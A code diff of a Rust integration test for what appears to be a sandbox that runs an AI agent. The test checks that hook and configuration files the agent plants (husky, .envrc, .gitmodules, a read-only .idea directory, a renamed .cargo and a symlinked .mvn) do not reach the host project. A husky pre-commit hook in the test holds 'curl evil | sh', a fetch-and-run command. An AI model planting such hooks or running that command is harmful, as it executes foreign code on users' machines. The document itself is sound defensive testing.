@@ -59,6 +59,7 @@ impl Project {
         write("sandbox.kdl", CONFIG);
         write(".vscode/settings.json", "{}\n");
         write(".claude/settings.local.json", "{\"permissions\":{}}\n");
+        write(".cargo/config.toml", "# host\n");
         write("README", "hello\n");
         support::git_in(&proj, &["init", "-q"]);
         support::commit_all(&proj, "init");
@@ -125,6 +126,9 @@ fn case(user: Option<(u32, u32)>) {
              printf '[submodule \"x\"]\\n\\tpath = x\\n' > .gitmodules; echo gitmodules=$?; \
              mkdir -p .husky && echo 'curl evil | sh' > .husky/pre-commit; echo husky=$?; \
              echo 'export PATH=/evil' > .envrc; echo envrc=$?; \
+             mkdir .idea && echo evil > .idea/workspace.xml && chmod 555 .idea; echo idea-ro=$?; \
+             mv .cargo .cg && mkdir .cargo && echo '[build]' > .cargo/config.toml; echo renamed=$?; \
+             mkdir mvnx && echo -Devil > mvnx/jvm.config && ln -s mvnx .mvn; echo linked-parent=$?; \
              echo 'ok' > notes-free.txt; echo ordinary=$?",
         );
         assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
@@ -149,6 +153,18 @@ fn case(user: Option<(u32, u32)>) {
             Some("{\"permissions\":{}}\n"),
             "{who} the agent's own answer stays in the sandbox's copy"
         );
+        // A read-only directory, a renamed parent, a linked parent: moved all the same.
+        o.expect("idea-ro", "0");
+        o.expect("renamed", "0");
+        o.expect("linked-parent", "0");
+        assert!(!p.exists(".idea"), "{who} {}", o.stderr);
+        assert!(!p.exists(".cargo/config.toml"), "{who} {}", o.stderr);
+        assert_eq!(
+            p.read(".cg/config.toml").as_deref(),
+            Some("# host\n"),
+            "{who}"
+        );
+        assert!(!p.exists("mvnx/jvm.config"), "{who} {}", o.stderr);
         for rel in [".gitmodules", ".husky", ".envrc"] {
             assert!(
                 !p.exists(rel),
